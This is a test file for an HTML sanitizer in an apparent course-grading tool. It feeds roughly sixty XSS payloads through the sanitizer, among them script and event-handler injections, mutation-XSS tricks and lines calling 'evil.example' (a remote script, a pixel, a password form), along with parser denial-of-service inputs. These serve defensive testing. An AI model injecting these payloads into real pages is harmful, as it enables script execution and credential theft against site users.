"""HTML that a student's code displays: tables survive, nothing that runs, fetches or escapes its box does."""

from __future__ import annotations

import re
import time

import pandas as pd
import pytest
from bleach._vendor import html5lib
from bs4 import BeautifulSoup
from feedback_samples import display, mixed, page, solution
from hypothesis import given, settings
from hypothesis import strategies as st

from coursegrader.feedback.sanitize import MAX_CHARS, MAX_TAGS, TAGS, clean_html

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script/x>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="https://evil.example/pixel.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example) }</style>",
    "<style>.state{display:none}",
    '<table style="background:url(javascript:alert(1))"><tr><td style="position:fixed;inset:0">1</td></tr></table>',
    '<table background="https://evil.example/x.png"><tr><td background=javascript:alert(1)>1</td></tr></table>',
    "<td onclick=alert(1) onmouseover=alert(1)>1</td>",
    '<table><tr><td colspan="1 onclick=alert(1)" rowspan="\'><script>alert(1)</script>">1</td></tr></table>',
    '<th scope="col&quot; onclick=alert(1)">1</th>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><img src=x onerror=alert(1)>",
    "<p/onclick=alert(1)//<p>x",
    "<<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\x00<\x00script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x contenteditable onblur=alert(1)>x</x>",
    '<p id="contenu" class="state passed" slot="x" is="x-y">points : 10 / 10</p>',
    "</div></article></main><h1>20 / 20</h1>",
    "</pre></code></table></ul></li></p></section></body></html><script>alert(1)</script>",
    "<plaintext>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button><p popover id=x>x",
]


def elements(markup: str) -> list[tuple[str, dict[str, str]]]:
    """What a browser's parser makes of the markup: names and attributes."""
    tree = html5lib.HTMLParser(namespaceHTMLElements=False).parseFragment(markup)
    return [(str(tag.tag), dict(tag.attrib)) for tag in tree.iter() if tag.tag != "DOCUMENT_FRAGMENT"]


def assert_harmless(markup: str) -> None:
    for name, attributes in elements(markup):
        assert name in TAGS
        for attribute, value in attributes.items():
            assert attribute in ("colspan", "rowspan", "scope")
            assert re.fullmatch(r"[1-9][0-9]?|100|row|col|rowgroup|colgroup", value)


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_executable_is_left(vector: str) -> None:
    cleaned = clean_html(vector)
    assert_harmless(cleaned)
    assert not re.search(r"</?(script|style|img|svg|iframe|form|a|div|article|main)\b", cleaned, re.IGNORECASE)


@pytest.mark.parametrize("vector", VECTORS)
def test_page_keeps_its_structure(vector: str) -> None:
    """A vector in every place where a student's text can stand: the parsed page has not one element more or less."""
    found, _ = mixed()
    everywhere = [
        solution(vector, {"output_type": "stream", "name": "stdout", "text": vector + "x"}, exercise="sample_ids"),
        solution("y", {"output_type": "error", "ename": vector, "evalue": vector, "traceback": [vector]}),
        solution("z", display(text_html=f"<table><tr><td>1</td></tr></table>{vector}"), exercise="count_bigrams"),
    ]
    html = page(found, everywhere, exercise_titles={"sample_ids": vector}, assignment_title=vector, course_title=vector)
    soup = BeautifulSoup(str(html), "html.parser")
    tree = html5lib.HTMLParser(namespaceHTMLElements=False).parse(html)
    names = [str(tag.tag) for tag in tree.iter()]
    assert not {"script", "svg", "math", "img", "iframe", "form", "input", "object", "embed", "base", "link"} & set(
        names
    )
    for name, count in {"h1": 1, "main": 1, "article": 6, "style": 1, "title": 1, "meta": 6, "footer": 1}.items():
        assert names.count(name) == count, name
    assert [tag.attrib["href"] for tag in tree.iter("a")] == ["#contenu", *(f"#exercice-{n}" for n in range(1, 7))]
    assert not [key for tag in tree.iter() for key in tag.attrib if str(key).startswith("on") or key == "style"]
    assert len(soup.select("main > section")) == len([tag for tag in tree.find("body/main") if tag.tag == "section"])


def test_dataframe_survives() -> None:
    frame = pd.DataFrame({"prénom": ["léa", "<b>"], "nombre": [3, 4]}, index=["a", "b"])
    cleaned = clean_html(frame._repr_html_())
    soup = BeautifulSoup(cleaned, "html.parser")
    rows = [[cell.get_text() for cell in row.find_all(["th", "td"])] for row in soup.find_all("tr")]
    assert rows == [["", "prénom", "nombre"], ["a", "léa", "3"], ["b", "<b>", "4"]]
    assert [header["scope"] for header in soup.find_all("th")] == ["col", "col", "col", "row", "row"]
    assert "vertical-align" not in soup.get_text()


def test_multiindex_spans_survive() -> None:
    columns = pd.MultiIndex.from_product([["x", "y"], ["a", "b"]])
    cleaned = clean_html(pd.DataFrame([[1, 2, 3, 4]], columns=columns)._repr_html_())
    assert 'colspan="2"' in cleaned


@pytest.mark.parametrize(
    ("value", "kept"), [("2", True), ("100", True), ("101", False), ("65534", False), ("²", False)]
)
def test_spans_are_bounded(value: str, kept: bool) -> None:
    cleaned = clean_html(f'<table><tr><td colspan="{value}">1</td></tr></table>')
    assert ("colspan" in str(cleaned)) is kept


def test_invisible_characters_are_shown_in_html_too() -> None:
    cleaned = clean_html("<p>a\u202eb&#x202e;c&#8238;d&rlm;e\x07</p>")
    assert cleaned == "<p>a⟨U+202E⟩b⟨U+202E⟩c⟨U+202E⟩d⟨U+200F⟩e␇</p>"


def test_entities_stay_text() -> None:
    assert clean_html("<p>&lt;b&gt; &amp;lt; &eacute; &nbsp;&nosuch;</p>") == (
        "<p>&lt;b&gt; &amp;lt; é \u00a0&amp;nosuch;</p>"
    )


_TAG_PIECES = """
<table> </table> <tr> <td> </td> <p> </p> <ul> <li> <script> </script> <style> </style> <svg> <math> <div> </div>
<b> </b> <!-- --> <![CDATA[ ]]> <select> <template> <noscript> </noscript> <textarea> <mtext> <mglyph> <foreignObject>
<title> </title> <thead> <caption> <colgroup> <col> <plaintext> < > & &lt; <img/onerror=x> <pre> </pre>
<span <td/colspan=3 ' " =
"""
PIECES = [*_TAG_PIECES.split(), "<a href=x>", "\n", " ", "x", "é", "&#x202e;", "\x00"]


@given(
    st.lists(
        st.one_of(
            st.sampled_from(PIECES),
            st.text(max_size=3),
        ),
        max_size=30,
    )
)
@settings(max_examples=400, deadline=None)
def test_any_html_comes_out_harmless_and_keeps_to_its_box(pieces: list[str]) -> None:
    cleaned = clean_html("".join(pieces))
    assert_harmless(cleaned)
    tree = html5lib.HTMLParser(namespaceHTMLElements=False).parse(
        f"<!DOCTYPE html><div id=box>{cleaned}</div><hr id=after>"
    )
    body = tree.find("body")
    assert [tag.get("id") for tag in body] == ["box", "after"]


COSTLY = [
    "<table><tr><td>" * 1_300,
    "<ul><li>" * 2_000,
    "<b a=1>" * 2_000 + "<p>x" * 2_000,
    "".join(f"<b a={n}>" for n in range(2_000)) + "<p>x" * 2_000,
    "<span>" * 2_000 + "<ul></ul>" * 1_000,
    "<svg>" * 4_000,
    "<style>" * 4_000,
    "<!--" * 4_000,
    "&" * MAX_CHARS,
    "&#x202e;" * 7_000,
    "<td " + "a=b " * 14_000 + ">",
    "<a" * 4_000,
    "<table>" + "<span>x" * 3_900,
]


@pytest.mark.parametrize("html", COSTLY)
def test_costly_html_stays_cheap(html: str) -> None:
    started = time.process_time()
    assert len(clean_html(html)) < 12 * MAX_CHARS
    assert time.process_time() - started < 8, "measured: below one second"


@pytest.mark.parametrize("html", ["<p>" + "x" * MAX_CHARS, "<p>" * (MAX_TAGS + 1)])
def test_large_html_is_not_parsed(html: str) -> None:
    with pytest.raises(ValueError, match="too large"):
        clean_html(html)
    found = mixed()[0]
    assert "Une sortie HTML n" in page(found, [solution("x", display(text_html=html), exercise="sample_ids")])
    both = display(text_html=html, text_plain="texte brut")
    assert "texte brut" in page(found, [solution("x", both, exercise="sample_ids")])


def test_parsing_has_a_budget_for_the_page() -> None:
    """Beyond it the plain text is shown."""
    outputs = [display(text_html=COSTLY[1] + str(n), text_plain=f"brut{n}") for n in range(30)]
    started = time.process_time()
    html = page(mixed()[0], [solution("x", *outputs, exercise="sample_ids")])
    assert time.process_time() - started < 20
    assert "brut0" not in html and "brut29" in html
